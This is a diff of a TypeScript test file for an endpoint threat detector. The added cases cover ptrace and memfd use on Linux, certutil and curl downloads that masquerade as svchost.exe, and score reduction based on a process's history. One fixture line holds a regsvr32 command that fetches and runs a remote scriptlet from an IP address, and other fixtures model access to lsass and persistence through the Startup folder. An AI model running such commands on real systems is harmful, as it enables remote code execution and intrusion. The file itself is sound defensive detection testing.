@@ -1,14 +1,16 @@
 import { describe, expect, it } from "vitest";
 import { anEvent, testCatalog } from "../../../test/support/events.ts";
+import type { History } from "../../baseline/history.ts";
+import { effectKeys } from "../../baseline/keys.ts";
 import type { Event } from "../../model/event.ts";
-import { connect, file, INSIDE, load, OUTSIDE, on, PUBLIC, S32, start, thread } from "../chains/cases/story.ts";
+import { connect, file, INSIDE, load, OUTSIDE, on, PUBLIC, past, S32, start, thread } from "../chains/cases/story.ts";
 import { createDetector } from "../detector.ts";
 
 const STARTUP = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
 const ENGINE = "C:\\Windows\\assembly\\GAC_MSIL\\System.Management.Automation\\System.Management.Automation.dll";
 
-function find(events: readonly Event[], minLevel: "low" | "medium" | "informational" = "low") {
-  const detector = createDetector({ catalog: testCatalog(), minLevel });
+function find(events: readonly Event[], minLevel: "low" | "medium" | "informational" = "low", history?: History) {
+  const detector = createDetector({ catalog: testCatalog(), minLevel, ...(history && { history }) });
   return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
 }
 
@@ -26,6 +28,8 @@ const looks = (rights: string, name: string) =>
     access: rights,
     target: { key: "id:L", pid: 700, image: `${S32}lsass.exe` },
   });
+const traces = (image: string, api: string) =>
+  anEvent("osApiExecution", 0, { platform: "linux", process: { key: "id:P", pid: 9, image }, api, access: "ATTACH" });
 const driver = (module: string) => anEvent("moduleLoad", 0, { module, signature: { signed: true, status: "Valid" } });
 
 /** By analytic: an event that tells of it, and the ordinary one beside it. */
@@ -78,10 +82,12 @@ const CASES: readonly (readonly [analytic: string, fires: Event, silent: Event])
   ],
   ["logon-program", file(0, "P", "mstsc.exe", `${STARTUP}a.exe`), file(0, "P", "msiexec.exe", `${STARTUP}a.exe`)],
   ["logon-shortcut", file(0, "P", "wscript.exe", `${STARTUP}a.lnk`), file(0, "P", "explorer.exe", `${STARTUP}a.lnk`)],
+  ["foreign-trace", traces("/usr/bin/python3.11", "ptrace"), traces("/usr/bin/gdb", "ptrace")],
+  ["file-in-memory", traces("/usr/bin/python3.11", "memfd"), traces("/usr/bin/runc", "memfd")],
 ];
 
 describe.each(CASES)("an event that tells alone: %s", (analytic, fires, silent) => {
-  const behaviour = `windows/chains/alone-${analytic}`;
+  const behaviour = `${fires.platform}/chains/alone-${analytic}`;
   it("is a finding, and its ordinary twin is none", () => {
     const [finding, ...more] = find([fires]);
     expect(more).toEqual([]);
@@ -120,6 +126,15 @@ describe("what the catalogue has an event confirm", () => {
   ])("makes none where %s", (_, event) => {
     expect(find([event])).toEqual([]);
   });
+  it("names what brings programs before what has other ends", () => {
+    const [finding] = find([file(0, "P", "certutil.exe", `${PUBLIC}a.exe`)]);
+    expect(finding).toMatchObject({ behaviour: "windows/certutil/download", writes: [{ value: `${PUBLIC}a.exe` }] });
+  });
+  it("tells of a file by what it means that it is written", () => {
+    const [finding] = find([file(0, "P", "curl.exe", `${PUBLIC}svchost.exe`)]);
+    expect(finding).toMatchObject({ level: "medium", techniques: ["T1036.005"] });
+    expect(find([file(0, "P", "msiexec.exe", `${PUBLIC}svchost.exe`)], "medium")).toEqual([]);
+  });
   it("confirms the finding of a start that is logged, and is none of its own", () => {
     const line = "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll";
     const start_ = start(0, "P", "regsvr32.exe", line);
@@ -141,6 +156,31 @@ describe("what the catalogue has an event confirm", () => {
     expect(more).toEqual([]);
     expect(finding?.behaviour).toBe("windows/chains/alone-logon-program");
     expect(finding?.related.map(({ role }) => role)).toEqual(["evidence", "evidence"]);
+  });
+  it("is quieter where a history knows the program to do such things", () => {
+    const event = connect(0, "P", "certutil.exe", OUTSIDE);
+    const known = past(...effectKeys(event, "windows/certutil"));
+    const [plain] = find([event], "informational");
+    const [ordinary] = find([event], "informational", known);
+    expect(ordinary?.score).toBeLessThan(plain?.score ?? 0);
+    expect(ordinary?.evidence.map(({ id }) => id)).toContain("history-effect");
+    expect(find([event], "low", known)).toEqual([]);
+  });
+});
+
+describe("a start that is logged and tells nothing", () => {
+  const begun = start(0, "P", "taskhostw.exe", "taskhostw.exe");
+  it("is a finding by what it does that is odd whoever does it, and only one", () => {
+    const findings = find([
+      begun,
+      load(1, "P", "taskhostw.exe", `${PUBLIC}a.dll`),
+      load(2, "P", "taskhostw.exe", `${PUBLIC}b.dll`),
+    ]);
+    expect(findings.map(({ behaviour }) => behaviour)).toEqual(["windows/chains/alone-foreign-library"]);
+  });
+  it("is none by what its line would have told", () => {
+    const line = start(0, "P", "certutil.exe", "certutil.exe -store my");
+    expect(find([line, connect(1, "P", "certutil.exe", OUTSIDE)])).toEqual([]);
   });
 });
 
